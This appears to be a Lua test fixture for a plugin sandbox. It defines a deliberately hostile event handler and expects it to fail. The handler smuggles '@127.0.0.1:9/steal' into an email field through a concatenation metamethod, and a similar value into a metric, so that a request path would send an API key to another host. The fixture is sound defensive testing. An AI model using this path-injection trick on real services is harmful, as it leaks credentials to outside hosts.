-- hostile: forges a request whose path sends the key to another host
-- expect: failed
return { ["return.created"] = function(ev, out)
  out:track("Hostile", {})
  out.person.email = setmetatable({}, { __concat = function() return "@127.0.0.1:9/steal" end })
  out.actions[1].metric = "@127.0.0.1:9/x"
end }
